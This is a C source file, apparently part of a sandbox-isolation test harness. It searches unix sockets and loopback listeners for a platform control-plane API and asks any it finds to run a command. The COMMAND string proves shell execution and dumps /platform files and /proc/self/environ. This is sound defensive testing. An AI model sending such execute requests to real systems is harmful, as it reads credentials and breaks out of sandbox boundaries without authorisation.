/* control-plane: an executor's API is the shortest way to the platform. Ask
 * the endpoints we were told of (--endpoint: the backend's own API, the
 * victim's stand-in) and those that the run's marker processes hold for a
 * platform execute that prints the private files and proves it ran.
 *
 * Harmless on a shared host: any other endpoint found (unix sockets in our
 * view, loopback TCP listeners) is only connected to, to record that it is
 * reachable; not one byte is written to it. It may be someone's live daemon. */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "probe.h"
#include "sockets.h"

/* $((6*7)) proves that a shell ran the command: an endpoint that only echoes
 * the request back shows the unexpanded text. */
#define COMMAND "echo splitbox-executed-$((6*7))-%s; cat /platform/* /platform/.* 2>/dev/null; cat /proc/self/environ"

const char *probe_endpoints[PROBE_MAX_ENDPOINTS];
int probe_n_endpoints;

static ssize_t http(int fd, const char *method, const char *path, const char *body, char *out, size_t cap)
{
  char req[2048];
  size_t got = 0;
  int n = snprintf(req, sizeof req,
                   "%s %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n"
                   "Connection: close\r\n\r\n%s",
                   method, path, strlen(body), body);

  /* A request cut short would be another request. */
  if (n < 0 || (size_t)n >= sizeof req)
    {
      errno = E2BIG;
      return -1;
    }
  if (write(fd, req, (size_t)n) != n)
    return -1;
  for (;;)
    {
      struct pollfd pfd = { .fd = fd, .events = POLLIN };
      ssize_t r;
      /* Generous: an execute on a loaded CI machine has taken over 2 s, and a
       * control that gave up early failed the test that relied on it. */
      if (got + 1 >= cap || poll(&pfd, 1, 15000) != 1 || (r = read(fd, out + got, cap - 1 - got)) <= 0)
        break;
      got += (size_t)r;
    }
  out[got] = '\0';
  return (ssize_t)got;
}

typedef int (*dial_fn)(const void *where);

static int dial_unix(const void *where)
{
  struct sockaddr_un u = { .sun_family = AF_UNIX };
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

  if (fd >= 0 && snprintf(u.sun_path, sizeof u.sun_path, "%s", (const char *)where) >= (int)sizeof u.sun_path)
    {
      close(fd);
      errno = ENAMETOOLONG;
      return -1;
    }
  if (fd >= 0 && connect(fd, (struct sockaddr *)&u, sizeof u) != 0)
    {
      close(fd);
      return -1;
    }
  return fd;
}

static int dial_tcp(const void *where)
{
  const struct sockaddr_storage *a = where;
  int fd = socket(a->ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);

  if (fd >= 0 && connect(fd, (const struct sockaddr *)a,
                         a->ss_family == AF_INET ? sizeof(struct sockaddr_in) : sizeof(struct sockaddr_in6)) != 0)
    {
      close(fd);
      return -1;
    }
  return fd;
}

/* Asks one endpoint: the SDK's unprefixed route, then the sandbox-scoped one for each id it lists. */
static void ask(struct probe *p, const char *label, dial_fn dial, const void *where)
{
  static char resp[1 << 18];
  const char *tag = p->nonce != NULL ? p->nonce : p->marker != NULL ? p->marker : "run";
  char body[512], proof[128], paths[8][256];
  int n_paths = 0, fd;

  /* The tag is ours (hex): nothing to escape in JSON. */
  snprintf(body, sizeof body, "{\"command\":\"" COMMAND "\"}", tag);
  snprintf(proof, sizeof proof, "splitbox-executed-42-%s", tag);

  /* Harmless first: only what answers a sandbox API's health check is asked to execute. */
  fd = dial(where);
  if (fd < 0 || http(fd, "GET", "/api/ping", "", resp, sizeof resp) <= 0 || strncmp(resp, "HTTP/1.1 200", 12) != 0)
    {
      probe_attempt(p, "http-get /api/ping", label, false, fd < 0 ? errno : EPROTO, "not a sandbox API");
      if (fd >= 0)
        close(fd);
      return;
    }
  close(fd);
  probe_attempt(p, "http-get /api/ping", label, true, 0, "a sandbox API answers");
  snprintf(paths[n_paths++], sizeof paths[0], "/api/execute");
  snprintf(paths[n_paths++], sizeof paths[0], "/api/sandboxes/default/platform/execute");
  if ((fd = dial(where)) >= 0)
    {
      ssize_t n = http(fd, "GET", "/api/sandboxes", "", resp, sizeof resp);
      close(fd);
      for (char *id = resp; n > 0 && n_paths < 8 && (id = strstr(id, "\"id\":\"")) != NULL; id += 6)
        {
          int len = snprintf(paths[n_paths], sizeof paths[0], "/api/sandboxes/%.*s/platform/execute",
                             (int)strcspn(id + 6, "\""), id + 6);
          /* An id too long for the path is skipped, not asked for under another name. */
          if (len > 0 && (size_t)len < sizeof paths[0])
            n_paths++;
        }
    }
  for (int i = 0; i < n_paths; i++)
    {
      ssize_t n = -1;
      char *target = NULL;
      if (asprintf(&target, "%s %s", label, paths[i]) < 0)
        target = NULL;
      fd = dial(where);
      if (fd >= 0)
        {
          n = http(fd, "POST", paths[i], body, resp, sizeof resp);
          close(fd);
          if (n > 0)
            probe_scan(p, resp, (size_t)n);
          if (n > 0 && strstr(resp, proof) != NULL)
            probe_observe(p, "executed", "%s", target != NULL ? target : paths[i]);
        }
      probe_attempt(p, "http-post", target != NULL ? target : paths[i], n > 0, errno, "%.120s", n > 0 ? resp : "");
      free(target);
    }
}

/* Not ours to ask: record that it is reachable, and send nothing. */
static void reach_only(struct probe *p, const char *label, dial_fn dial, const void *where)
{
  int fd = dial(where);

  probe_attempt(p, "connect only", label, fd >= 0, fd < 0 ? errno : 0,
                fd >= 0 ? "reachable; not an endpoint of this run: nothing sent" : "not reachable");
  if (fd >= 0)
    close(fd);
}

/* The owner of a bound path, from /proc/net/unix (which lists our network namespace's sockets). */
static enum owner path_owner(const struct probe *p, const char *path)
{
  size_t len = 0;
  char *table = probe_read_file("/proc/net/unix", 1 << 20, &len);
  enum owner who = OWNER_UNKNOWN;

  for (char *line = table ? strchr(table, '\n') : NULL; line != NULL && line[1] != '\0';
       line = strchr(line + 1, '\n'))
    {
      unsigned long inode;
      char bound[256];
      if (sscanf(line + 1, "%*s %*s %*s %*s %*s %*s %lu %255s", &inode, bound) == 2 && strcmp(bound, path) == 0)
        {
          who = sbx_socket_owner(p, inode);
          if (who == OWNER_OTHER)
            break;
        }
    }
  free(table);
  return who;
}

static bool told_of(const char *path)
{
  for (int i = 0; i < probe_n_endpoints; i++)
    if (strcmp(probe_endpoints[i], path) == 0)
      return true;
  return false;
}

static void unix_sockets_in(struct probe *p, const char *dir, int depth)
{
  DIR *d = opendir(dir);
  struct dirent *de;

  while (d != NULL && (de = readdir(d)) != NULL)
    {
      char path[4096];
      struct stat st;
      if (de->d_name[0] == '.' && (de->d_name[1] == '\0' || (de->d_name[1] == '.' && de->d_name[2] == '\0')))
        continue;
      int n = snprintf(path, sizeof path, "%s/%s", dir, de->d_name);
      if (n < 0 || (size_t)n >= sizeof path || lstat(path, &st) != 0)
        continue;
      if (S_ISSOCK(st.st_mode) && strlen(path) < sizeof ((struct sockaddr_un *)0)->sun_path)
        {
          /* Only the marker's own are asked; the endpoints we were told of are asked apart. */
          if (told_of(path))
            continue;
          if (path_owner(p, path) == OWNER_MARKER)
            ask(p, path, dial_unix, path);
          else
            reach_only(p, path, dial_unix, path);
        }
      else if (S_ISDIR(st.st_mode) && depth > 0)
        unix_sockets_in(p, path, depth - 1);
    }
  if (d != NULL)
    closedir(d);
}

static void loopback_listeners(struct probe *p, const char *table_path, int family)
{
  size_t len = 0;
  char *table = probe_read_file(table_path, 1 << 20, &len);

  for (char *line = table ? strchr(table, '\n') : NULL; line != NULL && line[1] != '\0';
       line = strchr(line + 1, '\n'))
    {
      char local[64], label[64];
      unsigned port, state;
      unsigned long inode;
      struct sockaddr_storage a = { 0 };
      enum owner who;
      if (sscanf(line + 1, " %*d: %63[0-9A-Fa-f]:%x %*s %x %*s %*s %*s %*s %*s %lu", local, &port, &state, &inode) != 4
          || state != 0x0A || (who = sbx_socket_owner(p, inode)) == OWNER_OTHER)
        continue;
      /* Only listeners bound to loopback itself: a wildcard one may face a real network. */
      if (family == AF_INET && strtoul(local, NULL, 16) == htonl(INADDR_LOOPBACK))
        {
          struct sockaddr_in *v4 = (struct sockaddr_in *)&a;
          v4->sin_family = AF_INET;
          v4->sin_port = htons((uint16_t)port);
          v4->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        }
      else if (family == AF_INET6 && strcmp(local, "00000000000000000000000001000000") == 0)
        {
          struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)&a;
          v6->sin6_family = AF_INET6;
          v6->sin6_port = htons((uint16_t)port);
          v6->sin6_addr = in6addr_loopback;
        }
      else
        continue;
      snprintf(label, sizeof label, "tcp port %u", port);
      if (who == OWNER_MARKER)
        ask(p, label, dial_tcp, &a);
      else
        reach_only(p, label, dial_tcp, &a);
    }
  free(table);
}

/* An endpoint as the harness passes it: a socket path, or http://ADDR:PORT
 * with a numeric loopback address or "localhost". */
static bool parse_tcp(const char *endpoint, struct sockaddr_storage *a)
{
  char host[64];
  unsigned port;
  const char *rest = endpoint + strlen("http://");
  const char *colon = strrchr(rest, ':');

  memset(a, 0, sizeof *a);
  if (strncmp(endpoint, "http://", 7) != 0 || colon == NULL || (size_t)(colon - rest) >= sizeof host
      || sscanf(colon + 1, "%u", &port) != 1 || port == 0 || port > 65535)
    return false;
  snprintf(host, sizeof host, "%.*s", (int)(colon - rest), rest);
  if (host[0] == '[' && host[strlen(host) - 1] == ']')
    {
      struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)a;
      host[strlen(host) - 1] = '\0';
      v6->sin6_family = AF_INET6;
      v6->sin6_port = htons((uint16_t)port);
      return inet_pton(AF_INET6, host + 1, &v6->sin6_addr) == 1;
    }
  struct sockaddr_in *v4 = (struct sockaddr_in *)a;
  v4->sin_family = AF_INET;
  v4->sin_port = htons((uint16_t)port);
  return inet_pton(AF_INET, strcmp(host, "localhost") == 0 ? "127.0.0.1" : host, &v4->sin_addr) == 1;
}

static void ask_told_of(struct probe *p)
{
  for (int i = 0; i < probe_n_endpoints; i++)
    {
      const char *e = probe_endpoints[i];
      struct sockaddr_storage a;
      if (e[0] == '/')
        ask(p, e, dial_unix, e);
      else if (parse_tcp(e, &a))
        ask(p, e, dial_tcp, &a);
      else
        probe_attempt(p, "endpoint", e, false, EINVAL, "neither a socket path nor http://ADDR:PORT");
    }
}

void probe_control_plane(struct probe *p)
{
  static const char *const dirs[] = { "/run", "/var/run", "/tmp", "/root", "/home", "/var/lib" };

  ask_told_of(p);
  /* The searches are attempts too: finding no endpoint is a result, and the
   * report must show that the probe looked. */
  for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++)
    {
      bool readable = access(dirs[i], R_OK | X_OK) == 0;
      probe_attempt(p, "search unix sockets", dirs[i], readable, errno, NULL);
      unix_sockets_in(p, dirs[i], 3);
    }
  probe_attempt(p, "search unix sockets", probe_shared_dir, access(probe_shared_dir, R_OK | X_OK) == 0, errno, NULL);
  unix_sockets_in(p, probe_shared_dir, 2);
  probe_attempt(p, "read loopback listeners", "/proc/net/tcp", access("/proc/net/tcp", R_OK) == 0, errno, NULL);
  loopback_listeners(p, "/proc/net/tcp", AF_INET);
  probe_attempt(p, "read loopback listeners", "/proc/net/tcp6", access("/proc/net/tcp6", R_OK) == 0, errno, NULL);
  loopback_listeners(p, "/proc/net/tcp6", AF_INET6);
}
